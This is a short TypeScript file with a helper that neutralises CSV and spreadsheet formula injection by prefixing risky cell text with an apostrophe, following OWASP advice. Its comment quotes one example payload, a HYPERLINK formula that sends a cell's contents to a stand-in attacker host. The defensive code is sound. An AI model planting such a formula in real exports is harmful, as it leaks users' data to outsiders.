// Formula injection (CSV/spreadsheet injection): a cell whose text starts with = + - or @
// (or a tab / carriage return, which some programs skip before reading a formula) is run
// as a formula when a CSV or sheet is opened in Excel, WPS or LibreOffice —
// `=HYPERLINK("http://evil.example?"&A1, "点击")` in a project title or an owner's name would
// leak or mislead. Every text cell of an export goes through neutraliseCell: such text gets a
// leading apostrophe, which spreadsheet programs show as plain text (OWASP's advice).
// Numbers written as numbers are left alone (a negative number is not a formula).

const FORMULA_START = /^[=+\-@\t\r]/;

/** The text as a spreadsheet must receive it: prefixed with ' when it could start a formula. */
export function neutraliseCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
